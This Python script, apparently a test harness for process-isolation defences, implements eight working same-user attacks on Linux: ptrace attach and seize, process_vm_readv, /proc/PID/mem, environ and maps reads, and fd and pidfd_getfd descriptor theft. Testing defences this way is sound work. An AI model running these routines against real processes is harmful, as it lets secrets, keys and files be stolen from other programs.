"""Attacks of a process of the same user, without any tool.

Usage: attack.py ATTACK PID ADDRESS SIZE, where ATTACK is a name in ATTACKS and ADDRESS is where
in its memory the secret is, which makes the attacker stronger than a real one. Writes what it
got to standard output, or says on standard error why it got nothing, and ends with status 1.
"""

from __future__ import annotations

import ctypes
import errno
import os
import stat
import sys

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207
SYS_PIDFD_GETFD = 438  # the same number on every architecture
FDS = 64

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Area(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def check(result: int, call: str) -> int:
    """Return the result of a call, or raise for the errno that it left."""
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error), call)
    return result


def process_vm_readv(pid: int, address: int, size: int) -> bytes:
    """Copy from its memory."""
    buffer = ctypes.create_string_buffer(size)
    here = Area(ctypes.cast(buffer, ctypes.c_void_p), size)
    there = Area(address, size)
    call = libc.process_vm_readv
    check(call(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0), "process_vm_readv")
    return buffer.raw


def peek(pid: int, address: int, size: int) -> bytes:
    """Read the memory of a process that has stopped for us, and let it go."""
    os.waitpid(pid, 0x40000000)  # __WALL: a thread too
    word = ctypes.sizeof(ctypes.c_long)
    words = [
        libc.ptrace(PTRACE_PEEKDATA, pid, address + offset, None) for offset in range(0, size, word)
    ]
    check(libc.ptrace(PTRACE_DETACH, pid, None, None), "ptrace(PTRACE_DETACH)")
    return b"".join(value.to_bytes(word, sys.byteorder, signed=True) for value in words)


def ptrace_attach(pid: int, address: int, size: int) -> bytes:
    """Attach as a debugger does."""
    check(libc.ptrace(PTRACE_ATTACH, pid, None, None), "ptrace(PTRACE_ATTACH)")
    return peek(pid, address, size)


def ptrace_seize(pid: int, address: int, size: int) -> bytes:
    """Attach as strace does."""
    check(libc.ptrace(PTRACE_SEIZE, pid, None, None), "ptrace(PTRACE_SEIZE)")
    check(libc.ptrace(PTRACE_INTERRUPT, pid, None, None), "ptrace(PTRACE_INTERRUPT)")
    return peek(pid, address, size)


def mem(pid: int, address: int, size: int) -> bytes:
    """Read the file that is its memory."""
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    return os.pread(fd, size, address)


def read(pid: int, name: str) -> bytes:
    """Read one of its files in /proc."""
    with open(f"/proc/{pid}/{name}", "rb") as file:
        return file.read()


def environ(pid: int, _address: int, _size: int) -> bytes:
    """Read the environment that it was started with."""
    return read(pid, "environ")


def maps(pid: int, _address: int, _size: int) -> bytes:
    """Learn where its libraries, heap and stack are."""
    return read(pid, "maps")


def fds(pid: int, _address: int, _size: int) -> bytes:
    """Open the files again that it has open."""
    folder = f"/proc/{pid}/fd"
    paths = [f"{folder}/{name}" for name in os.listdir(folder)]
    result = b""
    for path in paths:
        if stat.S_ISREG(os.stat(path).st_mode):
            with open(path, "rb") as file:
                result += file.read()
    return result


def pidfd_getfd(pid: int, _address: int, _size: int) -> bytes:
    """Take copies of its descriptors."""
    pidfd = os.pidfd_open(pid)
    result = b""
    for number in range(FDS):
        try:
            fd = check(libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0), "pidfd_getfd")
        except OSError as error:
            if error.errno != errno.EBADF:
                raise
            continue
        if stat.S_ISREG(os.fstat(fd).st_mode):
            result += os.pread(fd, 1 << 16, 0)
        os.close(fd)
    return result


ATTACKS = {
    "process_vm_readv": process_vm_readv,
    "ptrace-attach": ptrace_attach,
    "ptrace-seize": ptrace_seize,
    "mem": mem,
    "environ": environ,
    "maps": maps,
    "fd": fds,
    "pidfd_getfd": pidfd_getfd,
}


def main() -> None:
    """Attack, and write what came out."""
    name, pid, address, size = sys.argv[1], *map(int, sys.argv[2:5])
    try:
        os.write(1, ATTACKS[name](pid, address, size))
    except OSError as error:
        sys.exit(f"{name}: {error}")


if __name__ == "__main__":
    main()
